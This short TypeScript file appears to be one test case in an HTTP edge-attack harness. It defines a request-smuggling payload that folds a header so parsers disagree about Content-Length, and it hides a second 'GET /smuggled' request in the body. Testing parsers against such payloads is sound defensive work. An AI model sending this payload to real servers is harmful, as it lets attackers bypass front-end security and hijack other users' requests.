import { smuggling } from "../harness/edge-attacks.ts";

export const attack = smuggling(
  "Folds a header over two lines, the second of which one parser takes for a header of its own.",
  "POST / HTTP/1.1\r\nHost: HOST\r\nContent-Length: 46\r\nX-A: b\r\n Content-Length: 0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: HOST\r\n\r\n",
);
